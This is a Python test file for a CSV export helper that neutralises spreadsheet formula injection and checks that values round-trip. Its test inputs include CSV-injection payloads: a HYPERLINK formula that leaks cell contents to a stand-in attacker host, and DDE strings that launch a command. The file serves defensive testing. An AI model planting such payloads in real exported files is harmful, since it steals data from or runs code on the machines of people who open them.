"""The one CSV writer: no text cell reaches a spreadsheet as a formula, and the import undoes
exactly the escaping the export did."""

from __future__ import annotations

import csv
import io

import pytest

from app.kit import safe_csv


def written(*cells: object) -> list[str]:
    out = io.StringIO()
    safe_csv.writer(out).writerow(cells)
    return next(csv.reader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Call us")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+1 hour",
    ],
)
def test_a_cell_starting_with_a_formula_character_is_written_as_text(value: str) -> None:
    assert written(value) == ["'" + value]
    assert safe_csv.unescape("'" + value) == value


@pytest.mark.parametrize("value", ["+2342033123461", "-33.92", "3.3515", "12", "+1"])
def test_numbers_stay_numbers(value: str) -> None:
    """E.164 phone numbers and coordinates: a spreadsheet reads them as numbers, never as a
    formula, and other readers need them unchanged."""
    assert written(value) == [value]
    assert safe_csv.unescape(value) == value


@pytest.mark.parametrize(
    "value",
    ["'=already quoted", "''=twice", "'abc", "'", "'-33.9", "plain", "", "a=b", "'+2342033123461"],
)
def test_every_text_round_trips(value: str) -> None:
    (cell,) = written(value)
    assert safe_csv.unescape(cell) == value
    assert (
        not cell.startswith(safe_csv.FORMULA_START) or cell.lstrip("+-").replace(".", "").isdigit()
    )


def test_other_values_are_written_as_csv_writes_them() -> None:
    assert written(None, 3, -1.5, True) == ["", "3", "-1.5", "True"]
